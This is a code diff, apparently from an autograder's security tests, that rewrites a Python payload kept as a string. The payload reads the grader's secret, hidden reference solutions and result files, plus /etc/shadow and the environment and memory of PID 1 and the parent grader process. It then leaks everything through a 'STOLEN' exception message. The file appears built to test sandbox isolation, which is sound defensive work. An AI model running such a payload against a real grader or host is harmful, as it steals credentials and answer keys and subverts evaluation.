@@ -21,22 +21,24 @@ def forge():
                 pass
 """
 READ_EVERYTHING = """
-import os, pathlib
+import os
 found = []
 def look(path):
     try:
-        found.append(path + ": " + open(path, errors="replace").read(300))
+        with open(path, errors="replace") as file:
+            found.append(path + ": " + file.read(200))
     except OSError:
         pass
-for start in ("/autograder", "/proc/" + str(os.getppid()), "/proc/1", "/root", "/etc/shadow"):
-    look(start)
+grader = "/proc/" + str(os.getppid())
+for path in ("source/secret", "source/settings.json", "source/solutions/hw3_backprop/hidden.py", "source/trial.ipynb",
+             "source/nnref/layers.py", "submission_metadata.json", "results/stdout", "results/results.json"):
+    look("/autograder/" + path)
+for path in ("/etc/shadow", "/proc/1/environ", "/proc/1/mem", grader + "/environ", grader + "/mem", grader + "/maps"):
+    look(path)
+for start in ("/autograder/source", "/autograder/results", "/root", grader + "/fd", "/proc/1/root", "/proc/1/cwd"):
     for place, folders, names in os.walk(start):
         for name in names:
             look(os.path.join(place, name))
-for path in ("/autograder/source/secret", "/autograder/source/solutions/hw3_backprop/hidden.py",
-             "/autograder/source/nnref/layers.py", "/autograder/submission_metadata.json",
-             "/autograder/results/stdout", "/proc/1/environ", "/proc/%d/environ" % os.getppid()):
-    look(path)
 if found:
     raise ValueError("STOLEN " + " ".join(found))
 """
